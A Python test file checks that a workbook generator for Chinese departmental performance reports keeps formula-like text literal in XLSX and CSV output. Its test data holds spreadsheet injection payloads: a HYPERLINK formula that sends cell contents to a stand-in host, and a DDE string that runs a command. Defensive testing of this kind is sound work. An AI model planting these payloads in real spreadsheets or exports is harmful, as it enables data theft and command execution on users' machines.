"""No text becomes a formula: a department name or a 扣分原因 that starts like a formula stays the
literal text in the score workbook, the summary workbook and the summary's CSV — read back with
openpyxl and, where LibreOffice is installed, through LibreOffice itself."""
from __future__ import annotations

import csv
import io
import json
import shutil
import subprocess
from pathlib import Path

import pytest
from openpyxl import load_workbook
from paths import ROOT

from generator.render.xlsx import formula_like

needs_office = pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice not installed (.ci/run installs it)")

NAME = '=HYPERLINK("http://x/?"&A1,"点击")'
REASONS = ["+cmd|'/C calc'!A0", "@SUM(1)", "-2+3"]
# one department per payload for the summary: each must come back as written
NAMES = [NAME, "+cmd|'/C calc'!A0", "@SUM(1)", "-2+3", "=1+1", "＝1+1", "#N/A"]


def _hunan(folder: Path, stem: str, name: str, reasons: list[str] = ()) -> str:
    """The 湖南 example with its department renamed and its 扣分原因 replaced; its path."""
    text = (ROOT / "inputs" / "hunan-example-2023.yaml").read_text(encoding="utf-8")
    text = text.replace("  name: 示例县商务局\n", f"  name: {json.dumps(name, ensure_ascii=False)}\n", 1)
    text = text.replace("title: 示例县商务局2023年度部门整体支出绩效自评报告（示例）\n", "", 1)
    old = ["部分绩效指标未设置质量、时效指标，扣0.5分。", "预算调整幅度较大，扣0.5分。", "合同引资额未完成年度目标，扣0.5分。"]
    for before, after in zip(old, reasons):
        text = text.replace(f"reason: {before}", f"reason: {json.dumps(after, ensure_ascii=False)}", 1)
    path = folder / f"{stem}.yaml"
    path.write_text(text, encoding="utf-8")
    return str(path)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """The score workbook of a department named like a HYPERLINK formula, with formula-like reasons."""
    from click.testing import CliRunner

    from generator.cli import main

    folder = tmp_path_factory.mktemp("cells")
    (folder / "rubrics").symlink_to(ROOT / "rubrics")
    facts = _hunan(folder, "hostile", NAME, REASONS)
    result = CliRunner().invoke(main, ["build", facts, "-o", str(folder / "out"), "--xlsx"])
    assert result.exit_code == 0, result.output
    return folder


def _texts(ws) -> dict:
    return {c.value: c for row in ws.iter_rows() for c in row if isinstance(c.value, str)}


@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@A1", "＝1", "＋1", "－1", "＠A1", "  =1", "\u3000=1", "\t1",
                                  "\r1", "\n=1"])
def test_what_a_spreadsheet_reads_as_a_formula(text):
    assert formula_like(text)


@pytest.mark.parametrize("text", ["", " ", "阳西县工业和信息化局", "2-3", "扣0.5分", "a=b", "（-2）"])
def test_ordinary_text_is_not_formula_like(text):
    assert not formula_like(text)


def test_the_score_workbook_keeps_every_text_literal(hostile):
    """The title, the department and each 扣分原因 are text cells holding what was written; the total
    row's sums are still formulas."""
    ws = load_workbook(hostile / "out" / "hostile-自评表.xlsx")["自评表"]
    title = ws["A1"]
    assert title.value == f"{NAME}2023年部门整体支出绩效自评表" and title.data_type == "s"
    cells = _texts(ws)
    for reason in REASONS:
        cell = reason + "，扣0.5分"         # the reason as written, and the deduction it explains
        assert cell in cells, reason
        assert cells[cell].data_type == "s" and cells[cell].quotePrefix, reason
    assert not any(c.data_type == "f" for row in ws.iter_rows(max_row=ws.max_row - 1) for c in row)
    last = ws.max_row
    assert [ws.cell(last, c).data_type for c in (4, 5)] == ["f", "f"]
    assert ws.cell(last, 4).value == f"=SUM(D3:D{last - 1})"


def test_an_ordinary_workbook_has_no_quote_prefix(tmp_path, run):
    """The clean twin: a department with an ordinary name gets plain cells, nothing marked."""
    (tmp_path / "rubrics").symlink_to(ROOT / "rubrics")
    facts = _hunan(tmp_path, "plain", "示例县商务局")
    assert run("build", facts, "-o", str(tmp_path / "out"), "--xlsx").exit_code == 0
    ws = load_workbook(tmp_path / "out" / "plain-自评表.xlsx")["自评表"]
    assert not any(c.quotePrefix for row in ws.iter_rows() for c in row)


@pytest.fixture(scope="module")
def departments(tmp_path_factory):
    """A folder of departments, each named with one payload."""
    folder = tmp_path_factory.mktemp("summary")
    (folder / "rubrics").symlink_to(ROOT / "rubrics")
    return [_hunan(folder, f"d{i}", name, REASONS) for i, name in enumerate(NAMES)]


def test_the_summary_workbook_keeps_every_name_literal(departments, tmp_path, run):
    target = tmp_path / "汇总.xlsx"
    result = run("summary", *departments, "-o", str(target), "-j", "1")
    assert result.exit_code == 0, result.output
    ws = load_workbook(target)["部门"]
    column = [ws.cell(r, 1) for r in range(2, ws.max_row + 1)]
    assert [c.value for c in column] == NAMES
    assert all(c.data_type == "s" for c in column)
    assert not any(c.data_type == "f" for sheet in load_workbook(target) for row in sheet.iter_rows() for c in row)


def test_the_summary_csv_prefixes_a_quote_to_formula_like_texts(departments, run):
    """OWASP's advice for CSV: a field a spreadsheet would evaluate starts with a single quote;
    figures stay figures."""
    result = run("summary", *departments, "--format", "csv", "-j", "1")
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.output)))[1:len(NAMES) + 1]      # then the count, on stderr
    names = [r[0] for r in rows]
    assert names == ["'" + n if n != "#N/A" else n for n in NAMES]
    assert all(r[1] == "2023" and not r[2].startswith("'") for r in rows)


@pytest.mark.slow
@needs_office
def test_libreoffice_reads_the_workbooks_as_text(hostile, departments, tmp_path, run):
    """Converted by LibreOffice to CSV, each cell holds the literal text: nothing was evaluated."""
    shutil.copy(hostile / "out" / "hostile-自评表.xlsx", tmp_path / "score.xlsx")
    assert run("summary", *departments, "-o", str(tmp_path / "summary.xlsx"), "-j", "1").exit_code == 0
    for name in ("score", "summary"):
        _office(tmp_path, f"{name}.xlsx", "csv:Text - txt - csv (StarCalc):44,34,76")
    score = list(csv.reader(io.StringIO((tmp_path / "score.csv").read_text(encoding="utf-8"))))
    assert score[0][0] == f"{NAME}2023年部门整体支出绩效自评表"
    assert {r + "，扣0.5分" for r in REASONS} <= {cell for row in score for cell in row}
    summary = list(csv.reader(io.StringIO((tmp_path / "summary.csv").read_text(encoding="utf-8"))))
    assert [r[0] for r in summary[1:]] == NAMES


@pytest.mark.slow
@needs_office
def test_libreoffice_opens_the_csv_as_text(departments, tmp_path, run):
    """The CSV opened by LibreOffice (and saved as a workbook to read it back): no cell is a
    formula, each holds the name as written, behind the quote at most."""
    csv_path = tmp_path / "summary.csv"
    assert run("summary", *departments, "-o", str(csv_path), "-j", "1").exit_code == 0
    _office(tmp_path, "summary.csv", "xlsx", "--infilter=CSV:44,34,76,1")
    ws = load_workbook(tmp_path / "summary.xlsx").active
    column = [ws.cell(r, 1) for r in range(2, ws.max_row + 1)]
    assert all(c.data_type in ("s", "e") if c.value == "#N/A" else c.data_type == "s" for c in column)
    assert [str(c.value).removeprefix("'") for c in column] == NAMES


def _office(folder: Path, name: str, to: str, *options: str) -> None:
    subprocess.run(["soffice", f"-env:UserInstallation={(folder / 'profile').as_uri()}", "--headless", *options,
                    "--convert-to", to, "--outdir", str(folder), str(folder / name)], capture_output=True, timeout=180)
